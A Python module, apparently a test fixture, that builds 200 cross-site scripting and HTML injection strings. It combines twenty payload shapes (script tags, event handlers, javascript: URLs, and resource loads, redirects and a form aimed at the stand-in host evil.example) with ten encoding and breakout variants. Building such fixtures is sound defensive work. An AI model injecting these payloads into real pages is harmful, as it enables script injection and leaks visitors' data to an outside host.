"""Two hundred texts that would like to be a page's code: twenty shapes, ten ways to write each."""

from html import escape
from urllib.parse import quote

EVIL = "https://evil.example"
SHAPES = (
    "<script>hit()</script>", "<img src=x onerror=hit()>", "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<details open ontoggle=hit()>x", "<input autofocus onfocus=hit()>", "<video><source onerror=hit()></video>", "<a href=javascript:hit()>x</a>", "<object data=javascript:hit()>",
    f"<img src={EVIL}/p.png>", f"<link rel=stylesheet href={EVIL}/x.css>", f"<style>@import '{EVIL}/x.css'</style>", f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<base href={EVIL}/>",
    f"<form action={EVIL}><button>x</button></form>", f"<div style=\"background:url({EVIL}/b)\">x</div>", "<math><mi xlink:href=javascript:hit()>x</mi></math>", "<body onload=hit()>", "<template><img src=x onerror=hit()></template>",
)  # fmt: skip
WAYS = (
    lambda s: s,
    lambda s: s.upper(),
    lambda s: f'">{s}',
    lambda s: f"'>{s}",
    lambda s: f"--></textarea></title></script>{s}",
    lambda s: escape(s),
    lambda s: quote(s),
    lambda s: f"[x]({s})",
    lambda s: f"![x]({EVIL}/i.png) {s}",
    lambda s: s.replace("<", "<\t").replace("=", "\u200b="),
)
PAYLOADS: tuple[str, ...] = tuple(way(shape) for shape in SHAPES for way in WAYS)
